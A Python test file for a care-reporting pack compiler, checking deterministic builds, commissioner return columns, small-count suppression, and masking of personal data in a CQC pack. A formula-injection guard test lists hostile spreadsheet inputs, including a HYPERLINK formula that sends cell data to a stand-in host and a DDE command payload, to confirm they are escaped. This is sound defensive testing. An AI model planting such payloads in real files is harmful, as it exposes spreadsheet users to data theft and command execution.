"""The commissioner pack on the bundled example: return files, suppression, determinism; and the
CQC pack's personal-data warning section."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pypdfium2 as pdfium
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from builders import under_contracts
from compiler import pipeline
from compiler.cli import cli
from compiler.privacy.suppress import HIDDEN, SMALL
from compiler.packs.commissioner.returns import return_csv
from compiler.render.spreadsheet import Sheet, xlsx_workbook
from compiler.views.commissioner import RETURN_COLUMNS, ReturnRow, metric_unit, published_values

ROOT = Path(__file__).resolve().parents[2]
PLANS = ROOT / "examples" / "plans"
EVIDENCE = ROOT / "examples" / "evidence"
AS_OF = dt.date(2026, 11, 20)

# The commissioner pack holds only plans under a contract: builders.under_contracts puts every example plan
# under one.


def build(out: Path, keys: Path, pack: str = "commissioner", plans: Path = PLANS):
    return CliRunner().invoke(cli, ["build", str(plans), "--evidence", str(EVIDENCE), "--pack", pack,
                                    "--as-of", AS_OF.isoformat(), "--out", str(out)],
                              env={"SGPACK_KEY_DIR": str(keys)}, catch_exceptions=False)


@pytest.fixture(scope="module")
def packs(tmp_path_factory) -> tuple[Path, Path]:
    tmp = tmp_path_factory.mktemp("commissioner")
    first, second = tmp / "one", tmp / "two"
    plans = under_contracts(tmp / "plans")
    for out in (first, second):
        result = build(out, tmp / "keys", plans=plans)
        assert result.exit_code == 0, result.output
    return first, second


def test_two_builds_are_byte_identical(packs):
    first, second = packs
    names = sorted(p.name for p in first.iterdir())
    assert names == ["commissioner-pack.docx", "commissioner-pack.pdf", "manifest.json", "return.csv", "return.xlsx"]
    for name in names:
        assert (first / name).read_bytes() == (second / name).read_bytes(), name


def test_pack_sections(packs):
    doc = pdfium.PdfDocument(str(packs[0] / "commissioner-pack.pdf"))
    text = re.sub(r"\s+", " ", " ".join(doc[i].get_textpage().get_text_range() for i in range(len(doc))))
    for heading in ("Contract LA-DOM-2025-12", "Contract NCC-RES-2026-004", "Plan progress", "Indicators",
                    "Actions overdue", "Closures and the evidence behind them", "Remedial action plan (PAMMS format)",
                    "Data protection", "UK GDPR Article 6(1)(e) public task", "Article 9(2)(h)"):
        assert heading in text, heading
    assert "RQ-04" in text and "Sofia Marin" in text                  # overdue, named lead
    assert "RP-03" in text and "Closed 15 October 2026" in text        # closure with its evidence
    assert "Quality and Safeguarding Committee minutes, 12 March 2026" in text
    # restrictive interventions are events, not people: the contract officer sees the values against the
    # target of 4, and the chart
    assert "Latest quarter: 2026-08: 4, 2026-09: 3, 2026-10: 4; total 11." in text
    assert "Chart withheld" not in text
    assert f"page {len(doc)} of {len(doc)}" in text


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def test_return_files_columns_and_suppression(packs):
    rows = read_csv(packs[0] / "return.csv")
    assert tuple(rows[0]) == RETURN_COLUMNS == (
        "provider", "location", "period", "metric", "numerator", "denominator", "value", "unit", "target", "RAG",
        "SPC signal", "narrative", "evidence refs")
    body = [dict(zip(rows[0], r)) for r in rows[1:]]
    restrictive = [r for r in body if r["metric"].startswith("Restrictive interventions")]
    assert [r["value"] for r in restrictive[-3:]] == ["4", "3", "4"]              # events: shown as they are
    assert all(r["RAG"] == "Green" and r["unit"] == "count" for r in restrictive[-3:])
    assert restrictive[0]["value"] == "12" and restrictive[0]["numerator"] == "12"
    late = [r for r in body if r["metric"].startswith("Calls started")]
    assert late[-1]["value"] == "7.2" and late[-1]["unit"] == "%" and late[-1]["RAG"] == "Red"
    assert not any(r["value"] in {"<5", "*"} for r in body)                       # no indicator counts people
    assert late[-1]["narrative"] and late[-1]["evidence refs"] == "indicators-riverside-late-calls"

    wb = load_workbook(packs[0] / "return.xlsx")       # the return itself: tests/packs/test_commissioner_return.py
    assert wb.sheetnames == ["Cover", "Actions", "Indicators"]
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f"
                if isinstance(c.value, str):
                    assert c.data_type == "s"
    assert wb.properties.creator == "sgpack" and wb.properties.created == dt.datetime(2026, 11, 20)


def test_csv_formula_guard_and_xlsx_text_stays_text():
    evil = ["=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1", "\r=1", " =1+1", "＝1+1", "-5", "12.5", "plain"]
    row = ReturnRow(*evil[:13], *[""] * (13 - len(evil[:13])))
    data = return_csv([row])
    cells = read_csv_bytes(data)[1]
    assert cells[:9] == ["'=HYPERLINK(\"http://x/?d=\"&A1,\"click\")", "'+1+1", "'-2+3",
                         "'@SUM(1+1)*cmd|' /C calc'!A0", "'\t=1", "'\r=1", "' =1+1", "'＝1+1", "-5"]
    assert cells[9:11] == ["12.5", "plain"]
    def workbook() -> bytes:
        return xlsx_workbook([Sheet("Return", [list(RETURN_COLUMNS), [*evil, -5]], [10] * 13, table=0)],
                             title="t", as_of_iso="2026-11-20")

    wb = load_workbook(io.BytesIO(workbook()))
    ws = wb.active
    assert ws["A2"].value == evil[0] and ws["A2"].data_type == "s"
    assert ws["I2"].value == "-5" and ws["I2"].data_type == "s"             # text that looks like a number
    assert ws["L2"].value == -5 and ws["L2"].data_type == "n"               # a number
    with zipfile.ZipFile(io.BytesIO(workbook())) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert workbook() == workbook()


def read_csv_bytes(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_suppression_only_for_counts_with_secondary_in_the_quarter():
    assert metric_unit("Restrictive interventions per month", [12, 4, 3]) == "count"
    assert metric_unit("Calls started late (%)", [8, 7]) == "%"
    assert metric_unit("Missed calls per 1,000 planned calls", [3, 2]) == "per 1,000"
    assert metric_unit("Average length of stay", [3.5, 2.0]) == "value"
    cells, small, hidden = published_values([3, 12, 10, 3, 12], "count")
    assert cells[:2] == [SMALL, "12"]                      # older periods: each on its own
    assert cells[2:] == [HIDDEN, SMALL, "12"]              # the quarter: 10 hidden so its total cannot give 3
    assert (small, hidden) == (2, 1)
    assert published_values([3, 2, 1], "%") == (["3", "2", "1"], 0, 0)   # rates are not suppressed
    assert published_values([3, 12, 4], "count", suppress=False) == (["3", "12", "4"], 0, 0)   # counts of events


def test_cqc_pack_lists_personal_data_warnings_masked(tmp_path):
    """The scan's hits, as the CQC writer takes them (pack_scan.cqc_personal_data), go masked to the preparer's
    notes beside the pack, for whoever shares it to check; the pack itself holds no such list."""
    from compiler.packs.assemble import assemble
    from compiler.packs.cqc import with_charts
    from compiler.packs.profiles import load_profile
    from compiler.privacy.pack_scan import cqc_personal_data
    from compiler.privacy.roster import load_roster
    from compiler.render.theme import load_theme
    from compiler.views.common import Options
    from compiler.views.cqc import cqc_view

    assessment = pipeline.check([PLANS], EVIDENCE, AS_OF)
    profile = load_profile("cqc")
    pack = assemble(assessment, profile, "Oakview")
    context = with_charts(cqc_view(pack, Options()), load_theme())
    roster = load_roster(PLANS / "roster.csv")
    found = cqc_personal_data(context, pack, roster)
    hits = {(h.file, h.kind, h.masked) for h in found}
    debrief = next(e for e in pack.exhibits if e.path.endswith("2026-09-04-post-incident-debrief.md"))
    where = f"exhibits/{debrief.file_name}"
    assert (where, "NHS number", "999 *** ****") in hits
    assert (where, "date of birth", "**/**/****") in hits
    assert (where, "name of a person who uses the service", "J**** T*******") in hits
    assert all(h.blocking for h in found if h.kind == "NHS number")

    folder, _ = pipeline.build([PLANS], EVIDENCE, "cqc", as_of=AS_OF, service="Oakview", out=tmp_path / "cqc")
    notes = (tmp_path / "cqc.preparer-notes.md").read_text(encoding="utf-8")
    section = notes[notes.index("## Personal data in the pack"):]
    assert f"{where}, {debrief.number}, paragraph 1: NHS number" in section
    assert "999 *** ****" in section and "J**** T*******" in section
    for value in ("9990000018", "999 000 0018", "Thornton", "14/03/1994"):
        assert value not in section
    doc = pdfium.PdfDocument(str(folder / "cqc-pack.pdf"))
    body = " ".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))
    assert "Personal data warnings" not in body and "999 *** ****" not in body
    with zipfile.ZipFile(folder / "cqc-pack.docx") as z:
        xml = z.read("word/document.xml").decode()
    assert "Personal data" not in xml and "999 *** ****" not in xml
